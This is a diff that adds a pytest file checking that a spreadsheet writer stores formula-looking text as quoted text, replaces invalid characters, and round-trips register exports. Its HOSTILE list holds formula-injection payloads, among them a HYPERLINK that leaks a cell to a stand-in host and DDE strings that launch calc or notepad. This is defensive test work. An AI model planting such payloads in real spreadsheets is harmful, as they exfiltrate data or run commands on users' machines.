@@ -1,0 +1,87 @@
+"""The one spreadsheet writer (safety/files/writer.py): text stays text, never a formula, even when it looks like
+one; characters a worksheet cannot hold are replaced visibly; our own exports import back unchanged."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import zipfile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from safety.access.roles import SYSTEM as ADMIN
+from safety.files.writer import REPLACEMENT, workbook_bytes, write_table
+from safety.indicators.charts import table_workbook
+from safety.register.enterprises import add_enterprise, get_enterprise
+from safety.register.spreadsheets import export_register, import_register
+
+# What an attacker (or an unlucky officer) types: formulas of every opening, DDE, and plain look-alikes.
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
+    "=1+2",
+    "+7 701 000 00 00",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=cmd|' /C calc'!A0",
+    "\r\n=1",
+    "=cmd|' /C notepad'!'A1'",
+]
+WRITTEN = [value.replace("\r\n", "\n") for value in HOSTILE]  # line breaks are written as LF
+
+
+def _formulas(data: bytes) -> list[str]:
+    """The formula elements of every sheet in an .xlsx."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return [
+            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
+        ]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_with_a_quote_prefix():
+    book = Workbook()
+    write_table(book.active, ["value", "number"], [[value, 1] for value in HOSTILE] + [["plain", 2]])
+    data = workbook_bytes(book)
+    assert _formulas(data) == []
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [sheet.cell(row, 1) for row in range(2, len(HOSTILE) + 3)]
+    assert [c.value for c in cells] == [*WRITTEN, "plain"]  # unchanged, so it imports back as it was
+    assert all(c.data_type == "s" for c in cells)
+    assert [c.quotePrefix for c in cells] == [not v.startswith("\n") for v in WRITTEN] + [False]
+    assert sheet.cell(2, 2).value == 1 and sheet.cell(2, 2).data_type == "n"  # numbers stay numbers
+
+
+def test_characters_a_worksheet_cannot_hold_are_replaced_visibly():
+    book = Workbook()
+    write_table(book.active, ["name"], [["bell\x07 vt\x0b nul\x00 end"], ["tab\tand\nnewline"]])
+    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
+    assert sheet.cell(2, 1).value == f"bell{REPLACEMENT} vt{REPLACEMENT} nul{REPLACEMENT} end"
+    assert sheet.cell(3, 1).value == "tab\tand\nnewline"  # tab and newline are text a cell may hold
+
+
+def test_the_dashboard_workbook_keeps_hostile_names_as_text():
+    data = table_workbook({"=evil": (["name", "when"], [[value, dt.date(2026, 1, 5)] for value in HOSTILE])})
+    assert _formulas(data) == []
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    assert [sheet.cell(row, 1).value for row in range(2, len(HOSTILE) + 2)] == WRITTEN
+
+
+@pytest.mark.parametrize("name", HOSTILE[:5])
+def test_the_register_export_of_hostile_names_imports_back_unchanged(store, name):
+    record = {
+        "bin": "210349000012",
+        "name_ru": name,
+        "name_kk": name,
+        "kato": "311000000",
+        "oked": "20150",
+        "industry": "@industry",
+        "joined_on": dt.date(2020, 1, 1),
+        "officer_name": "=officer",
+    }
+    add_enterprise(store, ADMIN, record)
+    data = export_register(store, ADMIN, "en")
+    assert _formulas(data) == []
+    report = import_register(store, ADMIN, data, "register.xlsx")
+    assert (len(report.added), len(report.updated), report.unchanged) == (0, 0, 1)
+    kept = get_enterprise(store, ADMIN, "210349000012")
+    assert (kept.name_ru, kept.industry, kept.officer_name) == (name, "@industry", "=officer")
